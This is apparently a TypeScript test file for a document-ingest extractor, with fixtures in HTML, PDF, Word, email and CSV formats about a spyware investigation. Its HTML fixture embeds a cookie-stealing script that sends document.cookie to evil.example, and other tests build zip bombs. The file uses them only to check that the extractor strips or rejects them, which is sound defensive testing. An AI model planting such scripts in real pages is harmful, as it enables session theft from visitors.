import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { mkdtempSync, readFileSync, readdirSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { createExtractor, detectSourceType, IngestError, type ExtractedSource } from '../../../main/core/ingest';
import { latin1, utf8 } from './helpers';
import { makeDocx, makeEml, makePdf, makeZip } from './generate';

const ex = createExtractor({ timeoutMs: 60_000, maxMemoryMb: 256 }, { workers: 2 });
const dir = mkdtempSync(join(tmpdir(), 'casefile-ingest-'));
const results = new Map<string, ExtractedSource>();

const HTML = `<!doctype html><html lang="en"><head><meta charset="utf-8">
<title>Spyware firm offered cash | The Daily</title>
<meta property="og:title" content="Spyware firm offered ‘bags of cash’">
<meta property="article:published_time" content="2022-02-01T12:00:00+00:00">
<link rel="canonical" href="https://daily.example/2022/02/nso-cash">
<script type="application/ld+json">{"@type":"NewsArticle","headline":"ignored","author":{"@type":"Person","name":"Sam Reporter"}}</script>
<script>window.evilPayload = function () { fetch("https://evil.example/steal?c=" + document.cookie); };</script>
<style>.x { background: url(https://tracker.example/bg.png) }</style>
</head><body onload="evilPayload()">
<nav><a href="/">Home</a> <a href="/world">World</a></nav>
<article>
<h1>Spyware firm offered ‘bags of cash’</h1>
<p>A whistleblower told the Department of Justice that the surveillance company offered cash for access to mobile networks.</p>
<img src="https://tracker.example/pixel.gif" onerror="evilPayload()" alt="">
<p>The company denied the allegations and said it operates under strict licensing by its government regulators.</p>
<iframe src="https://ads.example/frame"></iframe>
<p>Investigators from several newsrooms reviewed the documents over many months before publishing their findings.</p>
</article>
<script>document.write("<p>injected text</p>")</script>
</body></html>`;

beforeAll(async () => {
  const files: Record<string, Uint8Array> = {
    'brief.txt': latin1("Résumé de l'enquête\n\nLes journalistes ont découvert que l'entreprise vendait ses logiciels à des États. Où sont les preuves ? Ça reste à vérifier.\n"),
    'notes.md': utf8('# Timeline of the leak\n\n- 2016: first documented case\n- 2021: the list is published\n'),
    'article.html': utf8(HTML),
    'report.pdf': await makePdf({
      title: 'Annual transparency report',
      author: 'Citizen Lab',
      pages: [[{ text: 'Chapter one describes the infection chains in detail.' }], [{ text: 'Chapter two lists the operators we identified.' }]],
    }),
    'memo.docx': await makeDocx({
      title: 'Internal memo',
      creator: 'Legal team',
      heading: 'Response to the consortium',
      paragraphs: ['We reject the claims made by the consortium.', 'שלום עולם — הודעה לעיתונות', 'مرحبا بالعالم'],
    }),
    'tip.eml': makeEml({
      subject: 'Réunion : documents fuités',
      plain: 'Bonjour,\n\nVoici les documents dont nous avons parlé hier au téléphone. Merci de les traiter avec prudence.\n',
      html: '<p>HTML version should not be used</p>',
      attachment: { name: 'contract.pdf', data: new Uint8Array(1234).fill(7), type: 'application/pdf' },
    }),
    'html-only.eml': makeEml({ subject: 'Only HTML', html: '<p>First para of an HTML-only email.</p><p>Second para.</p><script>alert(1)</script>' }),
    'ledger.csv': utf8('Name,City,Amount\r\n"Cohen, Yossi",Tel Aviv,"1,200"\r\nÉlise Martin,Paris,\r\n"Multi\nline",Beirut,50\r\n'),
  };
  for (const [name, bytes] of Object.entries(files)) writeFileSync(join(dir, name), bytes);
  for (const name of readdirSync(dir)) {
    results.set(name, await ex.extract(name, new Uint8Array(readFileSync(join(dir, name)))));
  }
}, 120_000);

afterAll(async () => {
  await ex.close();
  rmSync(dir, { recursive: true, force: true });
});

const get = (name: string): ExtractedSource => {
  const r = results.get(name);
  if (!r) throw new Error(`${name} was not imported`);
  return r;
};

describe('a mixed folder of every format', () => {
  it('detects every type from name and content', () => {
    for (const name of readdirSync(dir)) {
      const expected = name.split('.').pop();
      expect(detectSourceType(name, new Uint8Array(readFileSync(join(dir, name)))), name).toBe(expected);
    }
  });

  it('reads a Latin-1 .txt with its accents and a title line', () => {
    const r = get('brief.txt');
    expect(r.encoding).toBe('windows-1252');
    expect(r.title).toBe("Résumé de l'enquête");
    expect(r.text).toContain('découvert que l\'entreprise vendait ses logiciels à des États. Où');
    expect(r.language).toBe('fr');
  });

  it('reads markdown with its heading as the title', () => {
    expect(get('notes.md').title).toBe('Timeline of the leak');
  });

  it('extracts the article of an HTML page and nothing active', () => {
    const r = get('article.html');
    expect(r.title).toBe('Spyware firm offered ‘bags of cash’');
    expect(r.author).toBe('Sam Reporter');
    expect(r.date).toBe('2022-02-01T12:00:00+00:00');
    expect(r.url).toBe('https://daily.example/2022/02/nso-cash');
    expect(r.text).toContain('A whistleblower told the Department of Justice');
    expect(r.text.split('\n\n').length).toBeGreaterThanOrEqual(3);
    for (const bad of ['evilPayload', 'fetch(', 'document.cookie', 'injected text', 'tracker.example', 'background:', 'onerror', 'Home']) {
      expect(r.text, bad).not.toContain(bad);
    }
  });

  it('extracts PDF pages and metadata', () => {
    const r = get('report.pdf');
    expect([r.title, r.author, r.pages]).toEqual(['Annual transparency report', 'Citizen Lab', 2]);
    expect(r.text).toBe('Chapter one describes the infection chains in detail.\n\nChapter two lists the operators we identified.');
    expect(r.pageStarts).toEqual([0, 'Chapter one describes the infection chains in detail.\n\n'.length]);
  });

  it('extracts .docx text, Hebrew and Arabic included, with core properties', () => {
    const r = get('memo.docx');
    expect([r.title, r.author]).toEqual(['Internal memo', 'Legal team']);
    expect(r.text).toBe('Response to the consortium\n\nWe reject the claims made by the consortium.\n\nשלום עולם — הודעה לעיתונות\n\nمرحبا بالعالم');
    expect(r.date).toMatch(/^\d{4}-\d{2}-\d{2}T/);
  });

  it('extracts an email: plain body, headers as metadata, attachments listed', () => {
    const r = get('tip.eml');
    expect(r.text).toBe('Bonjour,\n\nVoici les documents dont nous avons parlé hier au téléphone. Merci de les traiter avec prudence.');
    expect(r.title).toBe('Réunion : documents fuités');
    expect(r.author).toBe('Élise Martin <elise@newsroom.example>');
    expect(r.date).toBe('2021-07-20T07:15:00.000Z');
    expect(r.metadata).toMatchObject({
      from: 'Élise Martin <elise@newsroom.example>',
      to: 'Desk <desk@newsroom.example>, Yossi Cohen <yossi@example.org>',
      cc: 'legal@newsroom.example',
      subject: 'Réunion : documents fuités',
      messageId: '<abc123@newsroom.example>',
    });
    expect(r.attachments).toEqual([{ name: 'contract.pdf', size: 1234, contentType: 'application/pdf' }]);
    expect(r.language).toBe('fr');
  });

  it('falls back to the HTML body of an email, without its scripts', () => {
    const r = get('html-only.eml');
    expect(r.text).toBe('First para of an HTML-only email.\n\nSecond para.');
  });

  it('renders CSV as one "column: value" line per row', () => {
    const r = get('ledger.csv');
    expect(r.text).toBe(
      'Name | City | Amount\nName: Cohen, Yossi | City: Tel Aviv | Amount: 1,200\nName: Élise Martin | City: Paris\nName: Multi line | City: Beirut | Amount: 50',
    );
    expect(r.metadata).toMatchObject({ rows: '3', columns: '3', delimiter: ',', columnNames: 'Name | City | Amount' });
  });
});

describe('hostile Office files', () => {
  it('says plainly when a .docx is not a zip', async () => {
    const err = await ex.extract('fake.docx', utf8('this is just text pretending to be Word')).catch((e: unknown) => e);
    expect(err).toBeInstanceOf(IngestError);
    expect((err as Error).message).toBe('Not a valid .docx file (it is not a zip archive).');
  });

  it('refuses zip bombs, whether they declare their size or lie about it', async () => {
    const honest = makeZip([
      { name: '[Content_Types].xml', data: utf8('<Types/>') },
      { name: 'word/document.xml', data: new Uint8Array(1024), declaredSize: 0xfff00000 },
    ]);
    await expect(ex.extract('bomb.docx', honest)).rejects.toThrow(/looks like a zip bomb/);
    const liar = makeZip([
      { name: '[Content_Types].xml', data: utf8('<Types/>') },
      { name: 'word/document.xml', data: new Uint8Array(8 * 1024 * 1024).fill(0x41), declaredSize: 1000 },
    ]);
    await expect(ex.extract('liar.docx', liar)).rejects.toThrow(/looks like a zip bomb/);
  });

  it('says plainly when a zip has no Word document in it', async () => {
    const zip = makeZip([{ name: 'hello.txt', data: utf8('hi') }]);
    await expect(ex.extract('x.docx', zip)).rejects.toThrow('Not a valid .docx file (it contains no Word document).');
  });
});
